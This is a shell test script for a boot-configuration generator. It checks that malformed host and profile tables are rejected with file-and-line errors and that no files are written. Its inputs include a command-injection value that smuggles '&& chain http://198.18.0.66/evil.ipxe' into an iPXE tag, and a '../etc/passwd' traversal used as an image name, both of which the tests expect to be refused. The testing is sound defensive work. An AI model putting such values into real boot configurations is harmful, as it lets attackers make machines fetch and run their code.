#!/bin/sh
# Bad tables are rejected with FILE:LINE, every problem at once, and nothing
# is written: neither a new tree nor a change to an existing one.

HERE=$(dirname "$0")
. "$HERE/../lib.sh"
. "$HERE/tools/bootcfg.sh"

bootcfg_require
plan 33

R=$T/root
mkdir -p "$R"
H=$T/hosts

cat >"$H" <<'EOF2'
52:54:00:00:00:01 n1 198.18.0.1 centos site=a
52:54:00:00:00:02 n2 198.18.0.2 debian
52:54:00:00:00:01 n3 198.18.0.3 debian
52:54:00:00:00:04 n4 198.18.0.2 debian
52:54:00:00:00:05 N1 198.18.0.5 debian
52:54:00:00:00:0x n6 198.18.0.6 debian
52:54:00:00:00:07 n7 198.18.0.300 debian
52:54:00:00:00:08 n8 198.18.0.8 nosuch
52:54:00:00:00:09 n9 198.18.0.9
52:54:00:00:00:0a n10 198.18.0.10 centos
EOF2
bc_all "$R" "$H"
is "$RC" 1 "bad table: exit 1"
E=$(cat "$T/err")
like "$E" "hosts:3: MAC already used on line 1" "duplicate MAC, both lines"
like "$E" "hosts:4: IP address 198.18.0.2 already used on line 2" "duplicate IP"
like "$E" "hosts:5: name 'N1' already used on line 1" "duplicate name"
like "$E" "hosts:6: '52:54:00:00:00:0x' is not a MAC address" "bad MAC"
like "$E" "hosts:7: '198.18.0.300' is not an IPv4 address" "bad IP"
like "$E" "hosts:8: unknown profile 'nosuch'" "unknown profile"
like "$E" "hosts:9: expected MAC NAME IP PROFILE" "truncated line"
like "$E" "7 errors: nothing written" "counted, nothing written"
is "$(find "$R" -type f | wc -l)" 0 "nothing written"

# A template tag without a value is found before anything is written.
printf '52:54:00:00:00:0a n10 198.18.0.10 centos\n' >"$H"
bc_all "$R" "$H"
is "$RC" 1 "missing tag: exit 1"
like "$(cat "$T/err")" "templates/ks.cfg:1: tag @SITE@ has no value for host n10 \(.*hosts:1\)" \
	"names template file:line and the host"

# With a good tree in place, a bad table changes none of it.
bc_all "$R" "$BCDATA/hosts" -q
is "$RC" 0 "good table written"
bc_snapshot "$R" >"$T/before"
sed 's/^52:54:00:12:34:02 node2/52:54:00:12:34:01 node2/' "$BCDATA/hosts" >"$H"
bc_all "$R" "$H"
is "$RC" 1 "duplicate after a good run: exit 1"
bc_snapshot "$R" >"$T/after"
ok "existing tree untouched" cmp -s "$T/before" "$T/after"

# Profiles are checked the same way.
printf '[profile x]\nkernel = a\nsanboot = aoe:e1.0\n[profile x]\nlocal = yes\n' >"$T/prof"
printf '52:54:00:00:00:01 n1 198.18.0.1 x\n' >"$H"
BC_PROFILES=$T/prof bc_all "$T/r2" "$H"
like "$(cat "$T/err")" "prof:3: profile 'x': 'kernel' and 'sanboot' exclude each other" \
	"two boot kinds in a profile"
like "$(cat "$T/err")" "prof:4: profile 'x' already defined on line 1" \
	"duplicate profile"

# Restore profiles: the image name, partition and files checked at their
# line; a value an output cannot hold safely refused at the host's line.
cat >"$T/prof-rs" <<'EOF2'
[profile r1]
restore = ../etc/passwd
restore-partition = 5
restore-layout = a b.tab
[profile r2]
restore = lab
kernel = /linux
[profile r3]
restore = lab
restore-layout = ${net0/ip}.tab
EOF2
printf '52:54:00:00:00:01 n1 198.18.0.1 r3\n' >"$H"
BC_PROFILES=$T/prof-rs bc_all "$T/r4" "$H"
is "$RC" 1 "bad restore profiles: exit 1"
E=$(cat "$T/err")
like "$E" "prof-rs:2: restore: an image name" "restore: a path is not an image name"
like "$E" "prof-rs:3: restore-partition: expected 1 to 4" "restore-partition out of range"
like "$E" "prof-rs:4: expected one file name" "restore-layout with a blank"
like "$E" "prof-rs:6: profile 'r2': 'kernel' and 'restore' exclude each other" \
	"restore and kernel in one profile"
# (iPXE chains GRUB on BIOS and x86-64 UEFI: the command line is in its
# script only for another architecture's restore-kernel)
printf '[profile r3]\nrestore = lab\nrestore-layout = ${net0/ip}.tab\nrestore-kernel.efi-arm64 = a/vmlinuz\n' >"$T/prof-rs"
BC_PROFILES=$T/prof-rs bc_all "$T/r4" "$H"
is "$RC" 1 "restore-layout iPXE would expand: exit 1"
like "$(cat "$T/err")" "hosts:1: host n1: kernel arguments: .*\\\$\\{.* in an iPXE script" \
	"refused at the host's line, naming iPXE"
ok "nothing written" test ! -e "$T/r4/ipxe/52-54-00-00-00-01.ipxe"

# A value that iPXE would run as a command is refused, not written.
printf '[profile t]\nkernel = /linux\nappend = site=@SITE@\n' >"$T/prof-inj"
printf '%s\n' '52:54:00:12:34:01 node1 198.18.0.11 t site="a && chain http://198.18.0.66/evil.ipxe #"' >"$T/hosts-inj"
BC_PROFILES=$T/prof-inj bc_all "$T/r3" "$T/hosts-inj"
is "$RC" 1 "command separator in an iPXE value: exit 1"
like "$(cat "$T/err")" "hosts-inj:1: host node1: kernel arguments: '&&' in an iPXE script" \
	"names the host line and the characters"
ok "no iPXE script written" test ! -e "$T/r3/ipxe/52-54-00-12-34-01.ipxe"
ok "no executable && anywhere" sh -c "! grep -rqs -e ' && chain' -e 'site=a &&' '$T/r3'"

run "$BOOTCFG" -p "$BCDATA/profiles" "$BCDATA/hosts"
is "$RC" 2 "no output chosen: usage error"
run "$BOOTCFG" -p "$BCDATA/profiles" --dhcpd "$T/x" --dnsmasq "$T/x" "$BCDATA/hosts"
is "$RC" 2 "one file for two outputs: usage error"
run "$BOOTCFG" -p "$BCDATA/profiles" -a "$T/nonexistent"
is "$RC" 1 "unreadable hosts file: exit 1"
truncate -s 17M "$T/huge"
run "$BOOTCFG" -p "$BCDATA/profiles" -a -o "$T/r4" "$T/huge"
like "$(cat "$T/err")" "huge: too large" "a hosts file over 16 MiB: FILE: too large"

done_testing
